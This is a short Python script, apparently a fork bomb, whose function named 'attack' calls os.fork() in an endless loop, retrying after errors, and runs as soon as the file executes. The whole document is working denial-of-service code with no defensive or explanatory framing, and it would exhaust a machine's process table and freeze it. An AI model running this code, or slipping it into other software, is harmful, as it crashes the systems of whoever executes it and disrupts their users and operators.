"""Starts processes without end."""
import os
import time


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.1)


attack()
